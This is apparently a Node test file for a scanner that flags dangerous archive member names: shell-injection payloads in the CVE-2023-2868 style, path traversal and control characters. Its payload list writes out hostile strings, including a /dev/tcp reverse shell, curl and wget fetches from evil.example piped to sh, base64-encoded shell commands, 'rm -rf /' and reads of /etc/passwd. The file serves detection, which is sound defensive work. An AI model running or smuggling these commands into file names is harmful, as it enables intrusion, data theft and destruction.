// Member name analysis: shell payloads (CVE-2023-2868 and friends) are found, ordinary names
// (the benign list below) stay quiet, traversal and control characters are named.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { memberNameProblems } from '../../../src/scan/archive/member-name-findings.js';

function ids(name: string): string[] {
  return memberNameProblems(name).map((p) => p.id);
}

const SHELL_PAYLOADS = [
  // The CVE-2023-2868 shape: a quoted name whose backticks decode and run a payload.
  "'`abcdef=YmFzaCAtaQ==;echo $abcdef|base64 -d|sh`.tar'",
  "'`echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3g=|base64 -d|sh`.tar'",
  '`touch /tmp/canary`.txt',
  'a`id`b.pdf',
  '$(touch /tmp/xyz/canary).txt',
  'dir/$(curl evil.example|sh).doc',
  'x${IFS}y.txt',
  'a;$IFS.txt',
  'report.pdf; rm -rf /',
  'report.pdf;touch /tmp/x',
  'x; wget http://198.51.100.7/x',
  'x;sh',
  'x && curl -s https://evil.example/p',
  'a || bash',
  'a|sh',
  'file.txt | /bin/sh',
  'x | base64 -d > /tmp/y',
  'name\nrm -rf ~/',
  'log 2>&1',
  'x > /dev/null',
  'a <(cat /etc/passwd)',
  'echo aGkK | base64 --decode',
  'curl http://evil.example/s.sh',
  'wget -q -O- 203.0.113.5/x',
  'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
  'x /bin/sh y',
  'sh -c id',
  "';touch /tmp/x;'.tar",
];

const BENIGN = [
  'Q&A.pdf',
  'R&D & Sales 2024.xlsx',
  'Tom & Jerry.txt',
  'cat & dog.jpg',
  'Photos & id card.pdf',
  'Report (final) v2.docx',
  'Invoice #123.pdf',
  "Tom's CV.pdf",
  "Rock 'n' Roll.mp3",
  '50% off!.png',
  'price $5.txt',
  '~$draft.docx',
  'résumé.pdf',
  'a+b=c.txt',
  '[draft] notes.md',
  '{config}.json',
  'file@2x.png',
  'C++ notes.txt',
  'What? Why!.txt',
  'Meeting 10:00.ics',
  'Smith; Jones - notes.pdf',
  'Q1 | Q2.pdf',
  'Don`t forget.docx',
  'echo chamber.mp3',
  'How to use wget manual.pdf',
  'x > y.txt',
  '<Untitled>.txt',
  'Budget 2024 - v3 (copy).xlsx',
  'folder/sub folder/file name.txt',
  'Cost ($).xlsx',
  'base64 notes.txt',
  'shell scripting.pdf',
  '__MACOSX/._photo.jpg',
  '.hidden/file',
  'a..b.txt',
  '...',
];

test('shell payloads in member names are ARCHIVE_MEMBER_SHELL_METACHARS', () => {
  for (const name of SHELL_PAYLOADS) {
    assert.ok(ids(name).includes('ARCHIVE_MEMBER_SHELL_METACHARS'), `not flagged: ${JSON.stringify(name)}`);
  }
});

test('ordinary names are not flagged at all', () => {
  for (const name of BENIGN) {
    assert.deepEqual(memberNameProblems(name), [], `flagged: ${JSON.stringify(name)}`);
  }
});

test('the reason says what was seen', () => {
  const [problem] = memberNameProblems("'`echo aGk=|base64 -d|sh`.tar'");
  assert.ok(problem);
  assert.match(problem.reason, /backtick/);
  assert.match(problem.reason, /base64/);
});

test('path traversal: .. segments with either separator, absolute paths, drive letters, UNC', () => {
  for (const name of ['../../etc/passwd', 'a/../../b', '..\\..\\windows\\win.ini', '/etc/cron.d/x', '\\windows\\x', 'C:/x', 'c:\\x', '\\\\server\\share\\x', 'a/.. /b']) {
    assert.ok(ids(name).includes('ARCHIVE_MEMBER_PATH_TRAVERSAL'), `not flagged: ${JSON.stringify(name)}`);
  }
  for (const name of ['a..b/c', '..a/b', 'a/b..', 'dir/file.txt']) assert.ok(!ids(name).includes('ARCHIVE_MEMBER_PATH_TRAVERSAL'), name);
});

test('control characters: C0, DEL and C1 are flagged; tabs too', () => {
  for (const name of ['a\u0000b', 'a\nb', 'a\rb', 'a\tb', 'a\u001bb', 'a\u007fb', 'a\u0085b', 'a\u009bb']) {
    assert.ok(ids(name).includes('ARCHIVE_MEMBER_CONTROL_CHARS'), JSON.stringify(name));
  }
  assert.deepEqual(ids('a\u00a0b é.txt'), []);
});
